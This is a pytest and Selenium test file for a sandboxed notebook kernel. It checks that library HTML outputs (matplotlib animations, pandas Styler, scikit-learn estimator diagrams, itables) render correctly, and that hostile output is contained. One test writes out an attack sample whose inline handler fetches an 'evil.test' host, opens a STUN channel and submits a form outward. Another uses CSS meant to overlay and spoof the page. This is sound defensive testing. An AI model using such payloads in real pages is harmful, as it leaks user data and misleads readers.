"""Outputs of libraries without a program, or with one in pieces, in a real browser; and what abuses the same ways."""

from __future__ import annotations

import json

import pytest
from selenium.webdriver import ActionChains, Chrome

from sandbox_kernel import Sandbox
from sandbox_kernel.policy.output_policy import OutputPolicy
from tests.browser.lab import eventually
from tests.browser.test_packed_browser import inside
from tests.support.chromium import listening, page
from tests.support.policy.messages import filtered

ANIMATION = """
import matplotlib
matplotlib.use("agg")
import matplotlib.pyplot as plt
from matplotlib.animation import FuncAnimation
from IPython.display import HTML
figure, axes = plt.subplots(figsize=(2, 1))
line, = axes.plot([0, 1], [0, 1])
drawn = FuncAnimation(figure, lambda i: line.set_ydata([0, i]), frames=4).to_jshtml()
plt.close(figure)
HTML(drawn)"""
STYLER = """
import pandas as pd
frame = pd.DataFrame({"a": [1, 2], "b": [3, 4]})
tips = pd.DataFrame({"a": ["größer", None], "b": [None, "x & y"]})
frame.style.background_gradient(cmap="viridis").set_tooltips(tips)"""
ESTIMATOR = """
from sklearn.compose import make_column_transformer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import OneHotEncoder, StandardScaler
parts = make_column_transformer((StandardScaler(), ["a"]), (OneHotEncoder(), ["b"]))
make_pipeline(parts, LogisticRegression(C=0.25))"""
TABLES = """
import itables, pandas
itables.init_notebook_mode(all_interactive=True)
pandas.DataFrame({"number": range(30)})"""


def html_of(sandbox: Sandbox, code: str) -> str:
    execution = sandbox.run_code(code)
    assert execution.ok, execution.error
    (result,) = execution.results
    assert result.html
    assert "<small>[sandbox_kernel:" not in result.html
    return result.html


def test_an_animation_of_matplotlib_plays_by_its_buttons(sandbox: Sandbox, browser: Chrome) -> None:
    with page(html_of(sandbox, ANIMATION)) as port:
        browser.get(f"http://127.0.0.1:{port}/")
        press = "document.querySelector('button[title=\"{}\"]').click()"
        at = "return document.querySelector('input[type=range]').value"
        eventually(lambda: inside(browser, 0, "return document.querySelector('img').src")[:5] == "data:", "a picture")
        for name, value in (("Pause", None), ("Last frame", "3"), ("Previous frame", "2"), ("First frame", "0")):
            inside(browser, 0, press.format(name))
            assert value is None or inside(browser, 0, at) == value
        slide = "const s=document.querySelector('input[type=range]');s.value=1;s.dispatchEvent(new Event('input'))"
        inside(browser, 0, slide)
        same = """const animation = window[Object.keys(window).find(name => /^anim[0-9a-f]{32}$/.test(name))];
            return document.querySelector('img').src === animation.frames[1].src"""
        assert inside(browser, 0, same) == "True"
        drawn = "return getComputedStyle(document.querySelector('.fa-play'), '::before').content"
        assert inside(browser, 0, drawn).startswith('"\u25b6')


def test_a_styler_with_tooltips_has_its_style_without_a_frame(sandbox: Sandbox, browser: Chrome) -> None:
    shown = html_of(sandbox, STYLER)
    assert "<iframe" not in shown
    with page("<!DOCTYPE html><meta charset=utf-8>" + shown) as port:
        browser.get(f"http://127.0.0.1:{port}/")
        cell = browser.find_element("css selector", "td")
        assert cell.value_of_css_property("background-color") == "rgba(68, 1, 84, 1)"
        tip = """const tip = document.querySelector('.pd-t');
            return [getComputedStyle(tip).visibility, getComputedStyle(tip, '::after').content]"""
        assert browser.execute_script(tip) == ["hidden", '"größer"']
        ActionChains(browser).move_to_element(cell).perform()
        eventually(lambda: browser.execute_script(tip)[0] == "visible", "the tooltip")


def test_an_estimator_has_its_boxes_without_a_frame_and_they_open(sandbox: Sandbox, browser: Chrome) -> None:
    shown = html_of(sandbox, ESTIMATOR)
    assert "<iframe" not in shown
    with page("<!DOCTYPE html><meta charset=utf-8>" + shown) as port:
        browser.get(f"http://127.0.0.1:{port}/")
        body = browser.find_element("css selector", "body")
        names = ["Pipeline", "ColumnTransformer", "StandardScaler", "OneHotEncoder", "LogisticRegression"]
        assert all(name in body.text for name in names)
        assert "0.25" not in body.text
        boxes = [one for one in browser.find_elements("css selector", "summary") if "LogisticRegression" in one.text]
        boxes[0].click()
        boxes[0].find_element("xpath", "..").find_elements("css selector", "summary")[1].click()
        eventually(lambda: "0.25" in body.text, "its parameters")
        links = [str(one.get_attribute("href")) for one in browser.find_elements("css selector", "a")]
        assert links
        assert all(link.startswith("https://scikit-learn.org/") for link in links)


def test_tables_of_itables_can_be_searched_and_turned_over(sandbox: Sandbox, browser: Chrome) -> None:
    if sandbox.run_code("import itables").error is not None:
        pytest.skip("itables is not in this image")
    with page(html_of(sandbox, TABLES)) as port:
        browser.get(f"http://127.0.0.1:{port}/")
        eventually(lambda: "Showing 1 to 10 of 30 entries" in inside(browser, 0), "the table")
        inside(browser, 0, "document.querySelector('.dt-paging-button.next').click()")
        eventually(lambda: "Showing 11 to 20 of 30 entries" in inside(browser, 0), "its second page")
    assert sandbox.run_code("itables.init_notebook_mode(all_interactive=False)").error is None  # for other tests


def test_handlers_in_attributes_are_guarded_as_scripts_are(browser: Chrome) -> None:
    with listening() as evil:
        stun = f"new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{evil.udp}'}}]}})"
        program = f"""<p id=p>no</p><button id=b onclick="p.textContent='ran';fetch('http://evil.test:{evil.tcp}/x');
            const c={stun};c.createDataChannel('x')">x</button><form id=f action="http://evil.test:{evil.tcp}/form"
            onsubmit="return false"></form><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="
            onload="parent.document.title=1"><script>setTimeout(()=>{{
            document.querySelector('#b').click();document.querySelector('#f').requestSubmit()}},300)</script>"""
        data, _ = filtered({"text/html": program})
        with page(data["text/html"]) as port:
            browser.get(f"http://127.0.0.1:{port}/")
            eventually(lambda: inside(browser, 0, "return p.textContent") == "ran", "the handler")
            browser.switch_to.default_content()
            assert browser.title == ""
        assert (evil.requests, evil.datagrams) == ([], [])


LAID_OVER = """<style>
p { position: absolute; top: 0px; left: 0px; width: 3000px; height: 3000px; background: red; z-index: 999 }
b { position: relative; top: 300px; background: red }
b::after { content: "words of another"; position: absolute; transform: translate(-900px, -900px) }
</style><p>x</p><b>y</b>"""


@pytest.mark.parametrize("contained", [True, False], ids=["contained", "control"])
def test_what_a_sheet_places_stays_within_its_output(browser: Chrome, contained: bool) -> None:
    data, verdict = filtered({"text/html": LAID_OVER}, OutputPolicy("safe"))
    assert verdict.reasons == ()
    shown = data["text/html"]
    assert "<iframe" not in shown
    assert "contain:paint" in shown
    if not contained:
        shown = shown.replace("contain:paint", "")
    other = "<div id=other style='height:100px'>other</div>"
    with page(f"<!DOCTYPE html><body style='margin:0'>{other}{shown}{other.replace('other', 'below')}") as port:
        browser.get(f"http://127.0.0.1:{port}/")
        found = browser.execute_script(
            """return [...document.querySelectorAll('#other, #below')].map(one => {
                const box = one.getBoundingClientRect();
                return document.elementFromPoint(box.x + 20, box.y + 50)?.id})"""
        )
        assert (found == ["other", "below"]) is contained, json.dumps(found)
